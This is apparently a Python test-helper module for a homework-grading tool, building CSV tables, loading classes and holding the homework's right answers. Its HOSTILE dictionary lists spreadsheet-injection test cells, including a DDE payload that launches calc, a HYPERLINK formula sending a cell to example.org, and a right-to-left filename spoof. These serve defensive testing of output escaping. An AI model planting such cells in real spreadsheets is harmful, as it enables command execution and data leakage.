"""Tables for the tests of grading, and the homework's right answers."""

import csv
import io
from fractions import Fraction

from hw5core.homework.answers.check import asked_layers
from hw5core.homework.grading.classes import Class
from hw5core.homework.grading.writing import TableWriter
from hw5core.network.counting import Count, count
from hw5core.network.presets import PRESETS

HOMEWORK = count(PRESETS["homework"].architecture)
RIGHT = ["34944", "614656", "885120", "1327488", "884992"]
LAYERS = ["conv1", "conv2", "conv3", "conv4", "conv5"]

HOSTILE = {
    "formula": '=HYPERLINK("https://example.org/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "newline": "Anna\n=1+1",
    "other separator": "Anna;=1+1",
    "full width": "＝1+1",
    "apostrophe": "'=1+1",
    "quotes": 'O\'Brien "the" Boss',
    "NUL": "An\0na",
    "right to left": "\u202egnp.exe\u202c",
    "tags": "<script>alert(1)</script> & ]]> <!-- -->",
    "surrogate": "😀",
}
"""Names and cells that harm a program which trusts them."""


def table(*rows: list[str], separator: str = ",") -> str:
    """Return rows as CSV, every cell in quotes."""
    file = io.StringIO()
    csv.writer(file, delimiter=separator, quoting=csv.QUOTE_ALL).writerows(rows)
    return file.getvalue()


def a_class(text: str | bytes, counted: Count = HOMEWORK, variants: str | None = None, most: int = 5) -> Class:
    """Return the class whose table has this text."""
    content = text if isinstance(text, bytes) else text.encode()
    return Class(io.BytesIO(content), counted, asked_layers(counted), Fraction(most), variants)


def graded(one: Class) -> list[dict[str, str]]:
    """Grade a class, and return the written rows, read back."""
    file = io.StringIO()
    for _ in one.write(TableWriter(file)):
        pass
    return list(csv.DictReader(io.StringIO(file.getvalue())))
